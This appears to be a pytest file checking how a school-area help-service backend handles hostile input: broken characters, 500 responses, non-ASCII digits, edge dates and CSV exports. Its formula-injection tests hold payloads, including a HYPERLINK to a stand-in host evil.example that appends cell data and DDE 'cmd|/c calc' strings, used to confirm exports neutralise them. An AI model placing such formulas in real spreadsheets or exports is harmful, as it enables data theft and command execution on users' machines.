"""Hostile input by class, at the places it enters: stored damage, 500s, CSV cells, query values, dates."""

from __future__ import annotations

import datetime as dt
import logging
from collections.abc import AsyncIterator

import httpx
import pytest
from asgi_lifespan import LifespanManager
from starlette.requests import Request
from starlette.routing import Route

from backend.alerts.models import FinishTimes, Notice
from backend.app import create_app
from backend.params import BadDateTime, iso_datetime
from backend.settings import Settings
from havens.models import Haven, HelpService
from tests.conftest import PG_URL
from tests.support.staff import login_as

SCHOOL = "100823"


async def test_stored_broken_characters_do_not_break_public_pages(client: httpx.AsyncClient) -> None:
    """Rows written before the body reader refused lone surrogates must still render (as U+FFFD)."""
    if PG_URL:
        pytest.skip(
            "PostgreSQL refuses to store a lone surrogate at all; the damage can only exist on SQLite"
        )
    today = dt.date.today().isoformat()
    await FinishTimes.create(
        school_urn=SCHOOL,
        area="southwark",
        rules={
            "weekly": [
                {"group": "Year \ud800", "days": ["mon", "tue", "wed", "thu", "fri"], "finish": "15:00"}
            ],
            "terms": [{"start": "2026-01-01", "end": "2026-07-01"}, {"start": today, "end": today}],
        },
    )
    service = await HelpService.create(  # JSON columns are where SQLite kept them (escaped as \\ud800)
        name="Broken line",
        needs=["feeling_low"],
        channels=[{"kind": "phone", "value": "0800 1111 \udfff", "hours": None}],
        area="southwark",
        status="checked",
    )
    school = await client.get(f"/api/v1/schools/{SCHOOL}")
    assert school.status_code == 200, school.text
    assert "\ufffd" in school.text and "\\ud800" not in school.text
    services = await client.get("/api/v1/services", params={"area": "southwark"})
    assert services.status_code == 200, services.text
    assert "0800 1111 \ufffd" in services.text
    # an editor can open (and so repair) the record
    await login_as(client, role="admin", areas=("southwark",))
    opened = await client.get(f"/api/v1/admin/services/{service.id}")
    assert opened.status_code == 200 and opened.json()["channels"][0]["value"] == "0800 1111 \ufffd"


async def _boom(request: Request) -> None:
    raise RuntimeError("a bug")


@pytest.fixture
async def crashing(settings: Settings) -> AsyncIterator[httpx.AsyncClient]:
    app = create_app(settings)
    app.router.routes.insert(0, Route("/api/v1/boom", _boom))
    async with LifespanManager(app, startup_timeout=120) as manager:
        transport = httpx.ASGITransport(app=manager.app, raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="https://testserver") as http:
            yield http


async def test_a_500_carries_the_security_headers_and_its_request_id(
    crashing: httpx.AsyncClient, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.INFO):
        response = await crashing.get("/api/v1/boom")
    assert response.status_code == 500
    request_id = response.headers["x-request-id"]
    assert response.json()["error"] == {
        "code": "internal_error",
        "message": "Something went wrong on our side. Please try again.",
        "details": {"request_id": request_id},
    }
    for header in ("content-security-policy", "x-content-type-options", "referrer-policy", "x-frame-options"):
        assert header in response.headers, header
    assert response.headers["strict-transport-security"].startswith("max-age=")
    assert response.headers["cache-control"] == "no-store"
    access = [r for r in caplog.records if r.name == "wayhome.access" and r.__dict__.get("status") == 500]
    assert [r.__dict__["request_id"] for r in access] == [request_id]
    assert any(r.name == "wayhome.errors" and r.exc_info for r in caplog.records)


async def test_csv_ids_and_numbers_must_be_plain_digits(client: httpx.AsyncClient) -> None:
    await login_as(client, role="editor", areas=("southwark",))
    header = "id,area,name,kind,lat,lon\n"
    for bad_id in ("99999999999999999999999", "²", "١٢", "0", "-1"):
        r = await client.post(
            "/api/v1/admin/imports/havens",
            content=f"{header}{bad_id},southwark,A shop,other,51.47,-0.07\n".encode(),
            headers={"content-type": "text/csv"},
        )
        assert r.status_code == 422, (bad_id, r.text)
        assert r.json()["error"]["details"]["errors"][0]["field"] == "id"
    for bad_lat in ("١٢", "5١.4", "51.47\u0660", "1_0", "nan", "inf"):
        r = await client.post(
            "/api/v1/admin/imports/havens",
            content=f"{header},southwark,A shop,other,{bad_lat},-0.07\n".encode(),
            headers={"content-type": "text/csv"},
        )
        assert r.status_code == 422, (bad_lat, r.text)
        assert r.json()["error"]["details"]["errors"][0]["field"] == "lat"
    assert await Haven.filter(name="A shop").count() == 0
    wrapped = await client.post(
        "/api/v1/admin/imports/havens",
        content=b'{"csv": "area,name\\nsouthwark,\\ud800"}',
        headers={"content-type": "application/json"},
    )
    assert wrapped.status_code == 422 and wrapped.json()["error"]["code"] == "invalid_characters"


async def test_query_numbers_take_ascii_digits_only(client: httpx.AsyncClient) -> None:
    for value in ("١٢", "²", "1_0", "12\n", "1e5000", "9" * 4301):
        r = await client.get("/api/v1/messages", params={"age": value})
        assert r.status_code in (414, 422), (value, r.text)
        r = await client.get("/api/v1/havens", params={"lat": value, "lon": "-0.07"})
        assert r.status_code in (414, 422), (value, r.text)
    assert (await client.get("/api/v1/messages", params={"age": "12"})).status_code == 200
    assert (await client.get("/api/v1/havens", params={"lat": "51.474", "lon": "-0.069"})).status_code == 200
    r = await client.get("/api/v1/routes", params={"from": "٥١.٤٧,-0.07", "to": "51.47,-0.075"})
    assert r.status_code == 422, r.text


async def test_paths_with_non_ascii_or_huge_ids_are_not_found(client: httpx.AsyncClient) -> None:
    await login_as(client, role="admin", areas=("southwark",))
    for segment in ("%C2%B2", "%D9%A1%D9%A2", "99999999999999999999999"):
        r = await client.get(f"/api/v1/admin/users/{segment}")
        assert r.status_code == 404, (segment, r.text)
    assert (await client.get("/api/v1/admin/havens/" + "9" * 4301)).status_code == 414


@pytest.mark.parametrize(
    "value",
    [
        "9999-12-31T23:00:00-05:00",
        "0001-01-01T00:00:00+05:00",
        "2026-12-01T15:00:00+00:00\n",
        "٢٠٢٦-12-01T15:00:00+00:00",
        "2026-W49-1",
        "20261201T1500+0000",
        "1999-12-31T23:00:00+00:00",
    ],
)
def test_one_datetime_reader_refuses_edges(value: str) -> None:
    with pytest.raises(BadDateTime):
        iso_datetime(value)


def test_one_datetime_reader_reads_what_browsers_send() -> None:
    assert iso_datetime("2026-12-01T15:00:00Z") == dt.datetime(2026, 12, 1, 15, tzinfo=dt.UTC)
    assert iso_datetime("2026-07-01T15:00") == dt.datetime(2026, 7, 1, 14, tzinfo=dt.UTC)  # London summer
    with pytest.raises(BadDateTime) as refused:
        iso_datetime("2026-07-01T15:00", assume=None)
    assert refused.value.reason == "offset"


async def test_calendar_edge_dates_in_notices_and_hotspots_are_422(client: httpx.AsyncClient) -> None:
    await login_as(client, role="admin", areas=("southwark", "north-london-demo"), schools=(SCHOOL,))
    for when in ("9999-12-31T23:00:00-05:00", "0001-01-01T00:00:00+05:00"):
        notice = await client.post(
            "/api/v1/admin/notices",
            json={"kind": "patrol", "title": "T", "body": "B", "schools": [SCHOOL], "expires_at": when},
        )
        assert notice.status_code == 422, notice.text
        assert "2000 and 2100" in notice.json()["error"]["message"]
        spot = await client.post(
            "/api/v1/admin/hotspots",
            json={"area": "north-london-demo", "lat": 51.6147, "lon": -0.1267, "radius_m": 50, "weight": 2,
                  "expires_at": when},
        )  # fmt: skip
        assert spot.status_code == 422, spot.text
    assert await Notice.all().count() == 0


async def test_times_with_a_trailing_newline_are_refused(client: httpx.AsyncClient) -> None:
    await login_as(client, role="admin", areas=("southwark",), schools=(SCHOOL,))
    put = await client.put(
        f"/api/v1/admin/schools/{SCHOOL}/finish-times",
        json={"weekly": [{"days": ["mon"], "finish": "15:20\n"}]},
    )
    assert put.status_code == 422, put.text
    assert "\\" not in put.json()["error"]["message"] or "15:20" in put.json()["error"]["message"]
    ok = await client.put(
        f"/api/v1/admin/schools/{SCHOOL}/finish-times",
        json={"weekly": [{"days": ["mon"], "finish": "15:20"}]},
    )
    assert ok.status_code == 200, ok.text
    assert await FinishTimes.filter(school_urn=SCHOOL).count() == 1


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "address": "+44 1 Formula Road",
    "contact": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "-2+3",
    "accessibility": "'quoted already",
    "source": "=1+1 and more",
}


async def test_csv_exports_neutralise_formulas_and_imports_round_trip(client: httpx.AsyncClient) -> None:
    import csv
    import io

    await login_as(client, role="editor", areas=("southwark",))
    created = await client.post(
        "/api/v1/admin/havens",
        json={"area": "southwark", "kind": "other", "lat": 51.474, "lon": -0.069, **FORMULAS},
    )
    assert created.status_code == 201, created.text
    haven_id = created.json()["id"]
    exported = await client.get("/api/v1/admin/havens/export.csv", params={"area": "southwark"})
    assert exported.status_code == 200
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(exported.text))}
    mine = rows[str(haven_id)]
    for field, value in FORMULAS.items():
        assert mine[field] == "'" + value, field  # a spreadsheet shows text, never runs it
    assert mine["lon"] == "-0.069"  # a plain negative number stays a number
    for row in rows.values():  # nothing in the file starts a formula
        for cell in row.values():
            assert not (cell or "").startswith(("=", "+", "@", "\t", "\r")), cell
    imported = await client.post(
        "/api/v1/admin/imports/havens",
        content="".join(
            line + "\n" for line in exported.text.splitlines() if line.startswith(("id,", f"{haven_id},"))
        ).encode(),
        headers={"content-type": "text/csv"},
    )
    assert imported.status_code == 200, imported.text
    assert imported.json()["updated"] == 1
    haven = await Haven.get(id=haven_id)
    for field, value in FORMULAS.items():
        assert getattr(haven, field) == value, field


async def test_service_export_neutralises_channel_values(client: httpx.AsyncClient) -> None:
    await login_as(client, role="editor", areas=("southwark",))
    created = await client.post(
        "/api/v1/admin/services",
        json={"name": "=cmd|'/c calc'!A1", "needs": ["feeling_low"], "area": "southwark",
              "channels": [{"kind": "walk_in", "value": "@1 Town Hall Road", "hours": None}]},
    )  # fmt: skip
    assert created.status_code == 201, created.text
    exported = (await client.get("/api/v1/admin/services/export.csv")).text
    assert "'=cmd|'/c calc'!A1" in exported and "'@1 Town Hall Road" in exported
    service_id = created.json()["id"]
    header = exported.splitlines()[0]
    line = next(row for row in exported.splitlines() if row.startswith(f"{service_id},"))
    imported = await client.post(
        "/api/v1/admin/imports/services",
        content=f"{header}\n{line}\n".encode(),
        headers={"content-type": "text/csv"},
    )
    assert imported.status_code == 200, imported.text
    service = await HelpService.get(id=service_id)
    assert service.name == "=cmd|'/c calc'!A1"
    assert service.channels[0]["value"] == "@1 Town Hall Road"
